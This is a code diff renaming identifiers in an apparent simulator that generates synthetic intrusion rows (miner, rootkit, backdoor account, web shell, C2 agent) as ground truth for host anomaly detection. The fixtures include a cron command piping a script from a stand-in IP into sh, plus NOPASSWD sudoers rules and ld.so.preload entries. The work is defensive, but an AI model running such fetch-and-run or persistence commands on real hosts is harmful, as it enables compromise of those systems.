@@ -1,26 +1,26 @@
 import type { Random } from '../../../simulator/fleet/random.ts'
 import type { Row, RowKind } from './ground-truth.ts'
 import { roleRows } from './roles.ts'
-import { account, file, job, outbound, port, program, type Rows, sha256, unit } from './rows.ts'
+import { account, cronJob, file, outbound, port, program, type Rows, sha256, unit } from './rows.ts'
 
 /** One change of a host: a row more, a row less, or a row in the place of another. */
-export interface Edit {
+export interface RowEdit {
   readonly kind: RowKind
   readonly query: string
   /** What is there; for a missing row what was. */
   readonly row: Row
   /** For a changed row what was there. */
-  readonly instead: Row | null
+  readonly previous: Row | null
 }
 
 /** Draws what an intruder does to a host that has `rows`: `most` edits at the most. */
-export type Draw = (random: Random, rows: Rows, most: number, role: string) => Edit[]
+export type DrawEdits = (random: Random, rows: Rows, most: number, role: string) => RowEdit[]
 
-const more = (query: string, row: Row): Edit => ({ kind: 'unexpected', query, row, instead: null })
-const less = (query: string, row: Row): Edit => ({ kind: 'missing', query, row, instead: null })
+const added = (query: string, row: Row): RowEdit => ({ kind: 'unexpected', query, row, previous: null })
+const removed = (query: string, row: Row): RowEdit => ({ kind: 'missing', query, row, previous: null })
 
 /** `count` different elements, in random order. */
-export function some<T>(random: Random, list: readonly T[], count: number): T[] {
+export function sample<T>(random: Random, list: readonly T[], count: number): T[] {
   const left = [...list]
   const taken: T[] = []
   while (taken.length < count && left.length > 0)
@@ -56,52 +56,52 @@ const SERVERS = [
   '/usr/bin/puma'
 ]
 
-const KITS: readonly ((random: Random) => Edit[])[] = [
+const KITS: readonly ((random: Random) => RowEdit[])[] = [
   // A miner.
   random => {
     const name = freshName(random)
     const path = `/tmp/.${random.letters(5)}/${name}`
     return [
-      more('temporary_programs', { ...program(path, 'www-data'), cwd: '/tmp' }),
-      more(
+      added('temporary_programs', { ...program(path, 'www-data'), cwd: '/tmp' }),
+      added(
         'crontab',
-        job(
+        cronJob(
           '/var/spool/cron/crontabs/www-data',
           `curl -fsSL http://198.51.100.${random.between(2, 250)}/${name}.sh | sh`
         )
       ),
-      more('outbound', outbound(path, random.pick([3333, 4444, 14444]), '198.51.100.7')),
-      more('systemd_units', unit(`${name}.service`, `/etc/systemd/system/${name}.service`)),
-      more('boot_scripts', file(`/etc/systemd/system/${name}.service`, name)),
-      more('hidden_files', {
+      added('outbound', outbound(path, random.pick([3333, 4444, 14444]), '198.51.100.7')),
+      added('systemd_units', unit(`${name}.service`, `/etc/systemd/system/${name}.service`)),
+      added('boot_scripts', file(`/etc/systemd/system/${name}.service`, name)),
+      added('hidden_files', {
         path: path.slice(0, path.lastIndexOf('/')),
         type: 'directory',
         mode: '0700',
         uid: '33'
       }),
-      more('programs', program(`/var/lib/${name}/${name}`, 'www-data')),
-      more('listening_ports', port(random.between(20000, 30000), `/var/lib/${name}/${name}`, 'loopback'))
+      added('programs', program(`/var/lib/${name}/${name}`, 'www-data')),
+      added('listening_ports', port(random.between(20000, 30000), `/var/lib/${name}/${name}`, 'loopback'))
     ]
   },
   // A rootkit.
   random => {
     const name = freshName(random).replace(/-/g, '_')
     return [
-      more('kernel_modules', { name, size: '57344', used_by: '-', status: 'Live' }),
-      more('preload_file', file('/etc/ld.so.preload', name)),
-      more('hidden_files', { path: `/usr/lib/.${name}`, type: 'regular', mode: '0755', uid: '0' }),
-      more('system_hooks', file(`/etc/modules-load.d/${name}.conf`, name)),
-      more('packet_sockets', { path: `/usr/lib/.${name}/x`, family: '17', protocol: '3', name }),
-      more('proc_mounts', { path: '/proc/4221', type: 'ext4', flags: 'rw', device: '/dev/root' })
+      added('kernel_modules', { name, size: '57344', used_by: '-', status: 'Live' }),
+      added('preload_file', file('/etc/ld.so.preload', name)),
+      added('hidden_files', { path: `/usr/lib/.${name}`, type: 'regular', mode: '0755', uid: '0' }),
+      added('system_hooks', file(`/etc/modules-load.d/${name}.conf`, name)),
+      added('packet_sockets', { path: `/usr/lib/.${name}/x`, scenario: '17', protocol: '3', name }),
+      added('proc_mounts', { path: '/proc/4221', type: 'ext4', flags: 'rw', device: '/dev/root' })
     ]
   },
   // An account of one's own.
   random => {
     const name = freshName(random)
     return [
-      more('users', account(name, '/bin/bash', random.between(1001, 1400))),
-      more('passwords', { username: name, password_status: 'active', hash_alg: 'yescrypt' }),
-      more('authorized_keys', {
+      added('users', account(name, '/bin/bash', random.between(1001, 1400))),
+      added('passwords', { username: name, password_status: 'active', hash_alg: 'yescrypt' }),
+      added('authorized_keys', {
         username: name,
         algorithm: 'ssh-rsa',
         key: `AAAAB3${random.letters(40)}`,
@@ -109,27 +109,27 @@ const KITS: readonly ((random: Random) => Edit[])[] = [
         comment: '',
         key_file: `/home/${name}/.ssh/authorized_keys`
       }),
-      more('sudoers', {
+      added('sudoers', {
         header: name,
         rule_details: 'ALL=(ALL) NOPASSWD: ALL',
         source: `/etc/sudoers.d/90-${name}`
       }),
-      more('admin_groups', { groupname: random.pick(['sudo', 'docker', 'adm']), username: name }),
-      more('crontab', job(`/var/spool/cron/crontabs/${name}`, `/home/${name}/.cache/update`)),
-      more('programs', program(`/home/${name}/.cache/update`, name))
+      added('admin_groups', { groupname: random.pick(['sudo', 'docker', 'adm']), username: name }),
+      added('crontab', cronJob(`/var/spool/cron/crontabs/${name}`, `/home/${name}/.cache/update`)),
+      added('programs', program(`/home/${name}/.cache/update`, name))
     ]
   },
   // A web shell that calls home.
   random => {
     const name = freshName(random)
     return [
-      more('service_shells', {
+      added('service_shells', {
         path: '/usr/bin/dash',
         parent_path: random.pick(SERVERS),
         username: 'www-data',
         cmdline: 'sh -c id'
       }),
-      more('shell_connections', {
+      added('shell_connections', {
         path: '/usr/bin/bash',
         username: 'www-data',
         name: 'bash',
@@ -138,10 +138,10 @@ const KITS: readonly ((random: Random) => Edit[])[] = [
         remote_address: '203.0.113.9',
         remote_port: '443'
       }),
-      more('temporary_programs', { ...program(`/dev/shm/${name}`, 'www-data'), cwd: '/dev/shm' }),
-      more('outbound', outbound('/usr/bin/bash', 443, '203.0.113.9')),
-      more('setuid_elsewhere', { path: `/var/tmp/.${name}`, mode: '4755', uid: '0', size: '1183448' }),
-      more('hidden_files', { path: `/var/tmp/.${name}`, type: 'regular', mode: '4755', uid: '0' })
+      added('temporary_programs', { ...program(`/dev/shm/${name}`, 'www-data'), cwd: '/dev/shm' }),
+      added('outbound', outbound('/usr/bin/bash', 443, '203.0.113.9')),
+      added('setuid_elsewhere', { path: `/var/tmp/.${name}`, mode: '4755', uid: '0', size: '1183448' }),
+      added('hidden_files', { path: `/var/tmp/.${name}`, type: 'regular', mode: '4755', uid: '0' })
     ]
   },
   // An agent of a command-and-control framework.
@@ -150,12 +150,12 @@ const KITS: readonly ((random: Random) => Edit[])[] = [
     const path = `/usr/local/sbin/${name}`
     const number = random.between(2000, 9900)
     return [
-      more('programs', program(path)),
-      more('listening_ports', port(number, path)),
-      more('outbound', outbound(path, random.pick([443, 8443, 53]), '203.0.113.77')),
-      more('systemd_units', unit(`${name}.service`, `/etc/systemd/system/${name}.service`)),
-      more('boot_scripts', file(`/etc/systemd/system/${name}.service`, name)),
-      more('firewall', {
+      added('programs', program(path)),
+      added('listening_ports', port(number, path)),
+      added('outbound', outbound(path, random.pick([443, 8443, 53]), '203.0.113.77')),
+      added('systemd_units', unit(`${name}.service`, `/etc/systemd/system/${name}.service`)),
+      added('boot_scripts', file(`/etc/systemd/system/${name}.service`, name)),
+      added('firewall', {
         filter_name: 'filter',
         chain: 'INPUT',
         policy: '',
@@ -168,88 +168,89 @@ const KITS: readonly ((random: Random) => Edit[])[] = [
         iniface: 'all',
         outiface: 'all'
       }),
-      more('file_capabilities', { path, key: 'security.capability', value: `AQAAAg${random.letters(8)}` })
+      added('file_capabilities', { path, key: 'security.capability', value: `AQAAAg${random.letters(8)}` })
     ]
   },
   // Code that runs from memory alone.
   random => {
     const name = freshName(random)
     return [
-      more('memory_only_programs', { ...program(`/memfd:${name} (deleted)`), name, cwd: '/' }),
-      more('kernel_thread_impostors', {
+      added('memory_only_programs', { ...program(`/memfd:${name} (deleted)`), name, cwd: '/' }),
+      added('kernel_thread_impostors', {
         ...program('/usr/bin/perl'),
         name: 'kworker/0:2',
         cmdline: '[kworker/0:2]'
       }),
-      more('outbound', outbound('/usr/bin/perl', random.between(4000, 9000), '198.51.100.99')),
-      more('loader_environment', {
+      added('outbound', outbound('/usr/bin/perl', random.between(4000, 9000), '198.51.100.99')),
+      added('loader_environment', {
         path: '/usr/sbin/sshd',
         key: 'LD_PRELOAD',
         value: `/usr/lib/lib${name}.so`,
         name: 'sshd'
       }),
-      more('login_config', file(`/etc/pam.d/${name}`, name))
+      added('login_config', file(`/etc/pam.d/${name}`, name))
     ]
   }
 ]
 
 /** 2 to 8 rows of one kit. */
-export const kit: Draw = (random, _rows, most) => some(random, random.pick(KITS)(random), Math.max(2, most))
+export const kit: DrawEdits = (random, _rows, most) =>
+  sample(random, random.pick(KITS)(random), Math.max(2, most))
 
 /** Rows that imitate what the host has: a letter more, a file beside the real one. */
-export const mimicry: Draw = (random, rows, most) => {
+export const mimicry: DrawEdits = (random, rows, most) => {
   const like = random.pick(rows.systemd_units ?? [])
   const id = (like.id ?? 'x.service').replace('.', `${random.pick(['d', '2', '-daemon', 's'])}.`)
   const path = (random.pick(rows.programs ?? []).path ?? '/usr/sbin/x').concat(
     random.pick(['-bin', 'd', '.real', '2'])
   )
-  return some(
+  return sample(
     random,
     [
-      more('systemd_units', unit(id)),
-      more('programs', program(path)),
-      more('listening_ports', port(random.pick([8081, 8444, 9101, 5433, 2222]), path)),
-      more(
+      added('systemd_units', unit(id)),
+      added('programs', program(path)),
+      added('listening_ports', port(random.pick([8081, 8444, 9101, 5433, 2222]), path)),
+      added(
         'boot_scripts',
         file(`/etc/cron.daily/${random.pick(['apt-compatd', 'logrotated', 'dpkg-update'])}`, path)
       ),
-      more('outbound', outbound(path, 443, '52.94.0.77')),
-      more('crontab', job('/etc/cron.d/sysstat-update', `root ${path} 1 1`))
+      added('outbound', outbound(path, 443, '52.94.0.77')),
+      added('crontab', cronJob('/etc/cron.d/sysstat-update', `root ${path} 1 1`))
     ],
     Math.min(5, Math.max(2, most))
   )
 }
 
 /** What is normal in another role. */
-export const otherRole: Draw = (random, rows, most, role) => {
+export const otherRole: DrawEdits = (random, rows, most, role) => {
   const other = random.pick(
     ['web', 'api', 'worker', 'database', 'cache', 'queue'].filter(name => name !== role)
   )
   const has = (query: string, row: Row) =>
     (rows[query] ?? []).some(mine => JSON.stringify(mine) === JSON.stringify(row))
   const candidates = Object.entries(roleRows(other)).flatMap(([query, list]) =>
-    list.filter(row => query !== 'packages' && !has(query, row)).map(row => more(query, row))
+    list.filter(row => query !== 'packages' && !has(query, row)).map(row => added(query, row))
   )
-  return some(random, candidates, Math.max(2, most))
+  return sample(random, candidates, Math.max(2, most))
 }
 
 /** Protections that are gone: stopped, removed, opened. */
-export const stopped: Draw = (random, rows, most) => {
+export const stopped: DrawEdits = (random, rows, most) => {
   const control = random.pick(
     (rows.security_controls ?? []).filter(row => !(row.id ?? '').startsWith('systemd'))
   )
   const base = (control.id ?? '').replace('.service', '')
-  const gone = (query: string, test: (row: Row) => boolean): Edit[] =>
+  const gone = (query: string, test: (row: Row) => boolean): RowEdit[] =>
     (rows[query] ?? [])
       .filter(test)
       .slice(0, 1)
-      .map(row => less(query, row))
+      .map(row => removed(query, row))
   const edits = [
     {
       kind: 'changed' as const,
       query: 'security_controls',
       row: { ...control, state: 'stopped', active_state: 'inactive' },
-      instead: control
+      previous: control
     },
     ...gone('systemd_units', row => (row.id ?? '').startsWith(base)),
     ...gone('programs', row => (row.path ?? '').includes(base)),
@@ -259,57 +260,57 @@ export const stopped: Draw = (random, rows, most) => {
     ...gone('boot_scripts', row => row.path === '/etc/cron.daily/logrotate')
   ]
   const different = edits.filter((edit, at) => edits.findIndex(one => one.row === edit.row) === at)
-  return some(random, different, Math.min(5, Math.max(2, most)))
+  return sample(random, different, Math.min(5, Math.max(2, most)))
 }
 
 const FILES = ['core_programs', 'pam_modules', 'boot_scripts', 'login_config', 'system_hooks'] as const
 const PER_HOST = new Set(['/etc/cron.hourly/inventory-splay', '/etc/udev/rules.d/75-cloud-ifupdown.rules'])
 
-function trojan(random: Random, query: string, rows: Rows): Edit | null {
+function trojan(random: Random, query: string, rows: Rows): RowEdit | null {
   const files = (rows[query] ?? []).filter(row => !PER_HOST.has(row.path ?? ''))
   if (files.length === 0) return null
-  const instead = random.pick(files)
-  return { kind: 'changed', query, row: { ...instead, sha256: sha256(random.hex(32)) }, instead }
+  const previous = random.pick(files)
+  return { kind: 'changed', query, row: { ...previous, sha256: sha256(random.hex(32)) }, previous }
 }
 
 /** Files with other content, settings with other values. */
-export const changed: Draw = (random, rows, most) => {
-  const edits: Edit[] = []
-  for (const query of some(
+export const changed: DrawEdits = (random, rows, most) => {
+  const edits: RowEdit[] = []
+  for (const query of sample(
     random,
     [...FILES, 'core_programs', 'pam_modules', 'login_config'],
     Math.max(2, most)
   )) {
     const edit = trojan(random, query, rows)
-    if (edit !== null && !edits.some(one => one.instead === edit.instead)) edits.push(edit)
+    if (edit !== null && !edits.some(one => one.previous === edit.previous)) edits.push(edit)
   }
   const user = random.pick((rows.users ?? []).filter(row => row.shell === '/usr/sbin/nologin'))
-  const opened: Edit = {
+  const opened: RowEdit = {
     kind: 'changed',
     query: 'users',
     row: { ...user, shell: '/bin/bash' },
-    instead: user
+    previous: user
   }
   return edits.length < 2 || random.chance(0.3) ? [...edits.slice(0, 7), opened] : edits
 }
 
 /** One row in a table that is quiet on healthy hosts. */
-export const oneRow: Draw = (random, rows) => {
+export const oneRow: DrawEdits = (random, rows) => {
   const name = freshName(random)
   const setting = random.pick((rows.sysctls ?? []).filter(row => row.current_value !== '0'))
   const user = random.pick((rows.users ?? []).filter(row => row.shell === '/usr/sbin/nologin'))
-  const draws: readonly (() => Edit | null)[] = [
+  const draws: readonly (() => RowEdit | null)[] = [
     () =>
-      more('kernel_modules', { name: name.replace(/-/g, '_'), size: '20480', used_by: '-', status: 'Live' }),
+      added('kernel_modules', { name: name.replace(/-/g, '_'), size: '20480', used_by: '-', status: 'Live' }),
     () =>
-      more('setuid_files', {
+      added('setuid_files', {
         path: `/usr/bin/${name}`,
         username: 'root',
         groupname: 'root',
         permissions: 'S'
       }),
     () =>
-      more('authorized_keys', {
+      added('authorized_keys', {
         username: 'root',
         algorithm: 'ssh-ed25519',
         key: `AAAAC3${random.letters(40)}`,
@@ -318,22 +319,22 @@ export const oneRow: Draw = (random, rows) => {
         key_file: '/root/.ssh/authorized_keys'
       }),
     () =>
-      more('sudoers', {
+      added('sudoers', {
         header: 'www-data',
         rule_details: 'ALL=(ALL) NOPASSWD: ALL',
         source: '/etc/sudoers'
       }),
-    () => more('preload_file', file('/etc/ld.so.preload', name)),
-    () => more('users', account(name, '/bin/sh', random.between(1001, 1400))),
-    () => more('admin_groups', { groupname: 'sudo', username: 'www-data' }),
-    () => ({ kind: 'changed', query: 'users', row: { ...user, shell: '/bin/bash' }, instead: user }),
+    () => added('preload_file', file('/etc/ld.so.preload', name)),
+    () => added('users', account(name, '/bin/sh', random.between(1001, 1400))),
+    () => added('admin_groups', { groupname: 'sudo', username: 'www-data' }),
+    () => ({ kind: 'changed', query: 'users', row: { ...user, shell: '/bin/bash' }, previous: user }),
     () => ({
       kind: 'changed',
       query: 'sysctls',
       row: { ...setting, current_value: setting.name === 'kernel.core_pattern' ? `|/tmp/${name}` : '0' },
-      instead: setting
+      previous: setting
     }),
-    () => more('login_config', file(`/etc/ssh/sshd_config.d/99-${name}.conf`, name)),
+    () => added('login_config', file(`/etc/ssh/sshd_config.d/99-${name}.conf`, name)),
     () => trojan(random, 'core_programs', rows),
     () => trojan(random, 'pam_modules', rows),
     () => trojan(random, 'login_config', rows)
@@ -343,14 +344,14 @@ export const oneRow: Draw = (random, rows) => {
 }
 
 /** What a team installs on its hosts: nothing of it is an incident. */
-export const toolset: Draw = random => {
+export const toolset: DrawEdits = random => {
   const name = `${random.pick(['perf', 'debug', 'trace', 'bench'])}kit-${random.letters(3).toLowerCase()}`
   return [
     ...['', '-common', '-doc', '-dev', '-plugins'].map(part =>
-      more('packages', { name: `${name}${part}`, kind: 'deb' })
+      added('packages', { name: `${name}${part}`, kind: 'deb' })
     ),
-    more('programs', program(`/opt/${name}/bin/collector`, 'nobody')),
-    more('systemd_units', unit(`${name}.service`)),
-    more('kernel_modules', { name: name.replace('-', '_'), size: '20480', used_by: '-', status: 'Live' })
+    added('programs', program(`/opt/${name}/bin/collector`, 'nobody')),
+    added('systemd_units', unit(`${name}.service`)),
+    added('kernel_modules', { name: name.replace('-', '_'), size: '20480', used_by: '-', status: 'Live' })
   ]
 }
